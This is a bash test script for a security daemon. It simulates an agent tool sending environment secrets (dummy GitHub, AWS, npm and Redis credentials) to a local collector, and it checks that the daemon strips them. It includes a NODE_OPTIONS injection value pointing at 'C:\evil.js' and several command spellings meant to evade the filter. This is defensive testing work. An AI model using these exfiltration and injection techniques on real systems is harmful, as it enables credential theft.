#!/usr/bin/env bash
# The seed attack on Windows: an agent's tool runs the tests and sends the environment away. wine holds no network, so
# what is looked at is the environment that was sent, and that doctor and the start say what is not held.
. "$(dirname "$0")/lib.sh"
command -v python3 >/dev/null || skip "python3 is not installed"
setup
build_tool exfiltrate || skip "mingw-w64 is not installed"

# One that keeps what it gets.
python3 - "$test_dir/port" "$test_dir/stolen" <<'PYTHON' &
import os, socket, sys
server = socket.create_server(("127.0.0.1", 0))
with open(sys.argv[1] + ".new", "w") as file:
    file.write(str(server.getsockname()[1]))
os.rename(sys.argv[1] + ".new", sys.argv[1])
while True:
    client, _ = server.accept()
    with open(sys.argv[2], "ab") as file:
        while data := client.recv(65536):
            file.write(data)
        file.write(b"-- end\n")
PYTHON
test_pids+=($!)
within 30 test -e "$test_dir/port" || fail "the collector did not start"
port=$(cat "$test_dir/port")
got() { grep -c -- '-- end' "$test_dir/stolen" 2>/dev/null || true; }
has_got() { [ "$(got)" -ge "$1" ]; }
wait_for_got() { within 30 has_got "$1" || fail "the collector got $(got) of $1"; }

export GITHUB_TOKEN=stolen-github AWS_SECRET_ACCESS_KEY=stolen-aws INNOCENT=ghp_000000000000000000000000000000000000
export npm_config__authToken=stolen-npm REDIS_URL=redis://app:stolen-redis@cache.example:6379/0
export ORDINARY_VARIABLE=ordinary-value
secrets=(GITHUB_TOKEN stolen-github AWS_SECRET_ACCESS_KEY stolen-aws ghp_0000 REDIS_URL stolen-redis)

# has_none FILE: no secret's name or value is in it, and what is no secret is.
has_none() {
  local secret
  grep -q 'ORDINARY_VARIABLE=ordinary-value' "$1" || fail "$1: what is no secret is not there: $(head -40 "$1")"
  grep -qi '^SystemRoot=' "$1" || fail "$1: SystemRoot is not there"
  for secret in "${secrets[@]}"; do
    ! grep -qiF -- "$secret" "$1" || fail "$secret is in: $(grep -iF -- "$secret" "$1")"
  done
}

# The control: outside of a session all of it is taken.
expect 0 "sent" windows 'C:\exfiltrate.exe' "$port"
wait_for_got 1
for secret in "${secrets[@]}"; do
  grep -qF -- "$secret" "$test_dir/stolen" || fail "the control: $secret was not sent"
done
: >"$test_dir/stolen"

mkdir -p "$drive/ProgramData/SysWatch/profiles/team"
cat >"$drive/ProgramData/SysWatch/profiles/team/never.yaml" <<'YAML'
profile: team/never
extends: [agents/generic]
environment:
  injection:
    - id: node
      names: [NODE_OPTIONS]
      always: true
      reason: Nothing is loaded into node.
YAML
start_daemon
expect 0 "ORDINARY_VARIABLE=ordinary-value" sw run --quiet -- cmd /c set
has_none "$test_dir/out"
# What the session's own command loads is its user's choice, but where a rule says that it never is.
export NODE_OPTIONS='--require C:\evil.js'
expect 0 "NODE_OPTIONS=" sw run --quiet -- cmd /c set
has_none "$test_dir/out"
expect 0 "ORDINARY_VARIABLE" sw run --quiet --profile team/never -- cmd /c set
has_none "$test_dir/out"
! grep -qE 'NODE_OPTIONS|evil' "$test_dir/out" || fail "NODE_OPTIONS: $(grep -E 'NODE_OPTIONS|evil' "$test_dir/out")"
expect 0 "[%GITHUB_TOKEN%] [ordinary-value]" sw run --quiet -- cmd /c 'echo [%GITHUB_TOKEN%] [%ORDINARY_VARIABLE%]'

# The attack, whole.
expect 0 "tests ran" sw run -- cmd /c "echo tests ran & set & C:\\exfiltrate.exe $port"
grep -q '^syswatch: .*network' "$test_dir/out" ||
  fail "the start does not say that the network is not held: $(head -5 "$test_dir/out")"
has_none "$test_dir/out"
wait_for_got 1
has_none "$test_dir/stolen"
: >"$test_dir/stolen"
for spelling in \
  "C:\\exfiltrate.exe $port" \
  "cmd /c cmd /c C:\\exfiltrate.exe $port" \
  "start /b /wait C:\\exfiltrate.exe $port" \
  "copy C:\\exfiltrate.exe C:\\c.exe >nul & C:\\c.exe $port" \
  "set GITHUB_TOKEN=& C:\\exfiltrate.exe $port"; do
  : >"$test_dir/stolen"
  expect 0 "sent" sw run --quiet -- cmd /c "$spelling"
  wait_for_got 1
  has_none "$test_dir/stolen"
done

# What is not held is said.
sw doctor --json >"$test_dir/doctor.json" || [ $? -eq 1 ]
python3 - "$test_dir/doctor.json" <<'PYTHON' || fail "doctor: $(cat "$test_dir/doctor.json")"
import json, sys
guards = {guard["guard"]: guard for guard in json.load(open(sys.argv[1]))["guards"]}
assert guards["network"]["state"] != "enforced" and guards["network"]["gaps"], guards["network"]
assert guards["files"]["state"] != "enforced" and guards["files"]["gaps"], guards["files"]
PYTHON

# No value of a secret is told of or kept.
sw events >"$test_dir/events" 2>&1 || fail "events"
! grep -qE 'stolen-(github|aws|npm|redis)' "$test_dir/events" || fail "a secret's value is in the events"
stop_daemon
[ "$stopped" -eq 0 ] || fail "syswatchd ended with $stopped"
! grep -qE 'stolen-(github|aws|npm|redis)' "$test_dir/daemon.log" || fail "a secret's value is in the daemon's log"
